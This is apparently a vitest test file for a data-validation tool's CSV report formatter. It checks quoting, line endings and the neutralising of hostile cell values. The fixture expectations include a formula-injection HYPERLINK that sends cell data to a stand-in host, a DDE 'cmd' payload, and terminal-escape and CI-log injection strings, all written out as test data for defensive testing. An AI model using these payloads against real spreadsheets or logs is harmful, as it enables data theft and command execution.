import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csv, neutraliseFormula } from '../../src/formatters/csv.js';
import { loadReport } from './report-fixtures.js';

function rows(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text.slice(1), { relax_column_count: false }) as string[][];
}

describe('the CSV report', () => {
  it('has a byte-order mark, CRLF line ends, a header and one row per listed issue', () => {
    const report = loadReport('failing-csv');
    const text = csv(report, {});
    expect(text.split('\r\n').length - 1).toBe(report.files[0]!.issues.length + 1);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const [header, ...body] = rows(text);
    expect(header).toEqual(['file', 'row', 'line', 'column', 'code', 'severity', 'value', 'message', 'hint', 'record']);
    expect(body).toHaveLength(report.files[0]!.issues.length);
    const amount = body.find((r) => r[1] === '2' && r[4] === 'value-type')!;
    expect(amount).toEqual([
      'data/anytown-spend-2024-04.csv',
      '2',
      '5',
      'Amount',
      'value-type',
      'error',
      '48,210.55',
      'Amount must be a number, but is "48,210.55"',
      'remove the thousands separators: 48210.55',
      '',
    ]);
  });

  it('puts the JSON pointer in the column field for JSON documents', () => {
    const body = rows(csv(loadReport('json-document'), {})).slice(1);
    expect(body.find((r) => r[3] === '/grants/0/recipientOrganization/0/id')!.slice(1, 5)).toEqual(['1', '31', '/grants/0/recipientOrganization/0/id', 'value-missing']);
  });

  it('quotes by RFC 4180 and reads back to the same fields', () => {
    const body = rows(csv(loadReport('hostile-values'), {})).slice(1);
    expect(body.every((r) => r[0] === 'uploads/q1, 100% final: <v2>.csv')).toBe(true);
    expect(body.find((r) => r[2] === '6' && r[3] === 'Amount')![6]).toBe(`"quoted" and 'single' \`tick\` | pipe`);
  });

  it('neutralises spreadsheet formulas in every cell that starts with = + - @ tab or CR', () => {
    const body = rows(csv(loadReport('hostile-values'), {})).slice(1);
    const values = body.map((r) => r[6]);
    expect(values).toContain(`'=HYPERLINK("https://example.invalid/?d="&A1,"Click here")`);
    expect(values).toContain(`'-2+3`);
    expect(values).toContain(`'@SUM(A1:A9)`);
    expect(values).toContain(`'\t+cmd|' /C calc'!A0`);
    expect(body.find((r) => r[6] === `'@SUM(A1:A9)`)![8]).toBe(`'@everyone: check this`);
    for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', 'a=1', ''].map(neutraliseFormula)).toEqual(["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", 'a=1', '']);
  });

  it('writes control characters and terminal escapes in values as visible text', () => {
    const text = csv(loadReport('hostile-values'), {});
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202e]/);
    const body = rows(text).slice(1);
    expect(body.map((r) => r[6])).toContain('\\x1b[31mPAID\\x1b[0m');
    expect(body.map((r) => r[6])).toContain('line one\\nline two\\r\\n::error file=x::injected');
  });

  it('writes the header alone for a clean file', () => {
    expect(csv(loadReport('clean-csv'), {})).toBe('\uFEFFfile,row,line,column,code,severity,value,message,hint,record\r\n');
  });
});
